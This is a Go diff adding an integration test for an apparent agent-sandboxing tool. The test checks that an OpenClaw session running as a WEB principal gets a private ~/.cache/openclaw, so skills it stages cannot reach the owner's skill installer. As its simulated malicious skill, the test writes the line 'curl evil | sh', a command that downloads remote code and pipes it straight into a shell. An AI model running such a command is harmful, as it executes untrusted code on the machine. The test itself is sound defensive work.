@@ -199,3 +199,50 @@ python3 -c '`+strings.ReplaceAll(set, "'", `'"'"'`)+`' "$OPENCLAW_STATE_DIR/`+db
 		}
 	}
 }
+
+// OpenClaw stages files in ~/.cache/openclaw, and the owner's gateway
+// installs uploaded skills from ~/.cache/openclaw/skill-installs there: a
+// session under --agent openclaw writes a directory of its own at that
+// path (sandbox.private), so what a WEB session leaves there never reaches
+// the owner's. (Before, ~/.cache/openclaw was writable to every session and
+// shared with the owner's processes.)
+func TestOpenClawCacheIsTheSessionsOwn(t *testing.T) {
+	tmp := t.TempDir()
+	ws, state := filepath.Join(tmp, "aerfs-it-ws"), filepath.Join(tmp, "state")
+	os.MkdirAll("/var/lib/aerfs-it", 0o755)
+	home, err := os.MkdirTemp("/var/lib/aerfs-it", "home-")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { os.RemoveAll(home) })
+	for _, d := range []string{ws, filepath.Join(home, ".openclaw/skills"), filepath.Join(home, ".cache/openclaw/skill-installs")} {
+		if err := os.MkdirAll(d, 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	expectOK(t, "init --agent openclaw", runCmd("/", nil, aerfsBin, "init", "--agent", "openclaw", "--state", state, ws))
+	pf := filepath.Join(state, "aerfs.yaml")
+	b, err := os.ReadFile(pf)
+	if err != nil {
+		t.Fatal(err)
+	}
+	pol := strings.ReplaceAll(strings.ReplaceAll(string(b), "path: ~/", "path: "+home+"/"), "\n    - ~/", "\n    - "+home+"/")
+	if err := os.WriteFile(pf, []byte(pol), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	envsMu.Lock()
+	envs[ws] = true
+	envsMu.Unlock()
+	e := (&Env{t: t, WS: ws, State: state}).Mount()
+	cache := filepath.Join(home, ".cache/openclaw")
+	r := runCmd(e.WS, []string{"HOME=" + home}, aerfsBin, "run", "--workspace", e.WS, "--agent", "openclaw", "--principal", "WEB", "--session", "web", "--",
+		"sh", "-c", "set -e; mkdir -p "+cache+"/skill-installs/evil && echo 'curl evil | sh' > "+cache+"/skill-installs/evil/SKILL.md && echo staged > "+cache+"/snapshot.db && cat "+cache+"/snapshot.db")
+	if r.Code != 0 || !strings.Contains(r.Stdout, "staged") {
+		bugErrorf(t, "the session could not write its own ~/.cache/openclaw: %s", r)
+	}
+	for _, f := range []string{"skill-installs/evil/SKILL.md", "snapshot.db"} {
+		if _, err := os.Lstat(filepath.Join(cache, f)); err == nil {
+			bugErrorf(t, "a WEB session's %s is in the owner's ~/.cache/openclaw", f)
+		}
+	}
+}
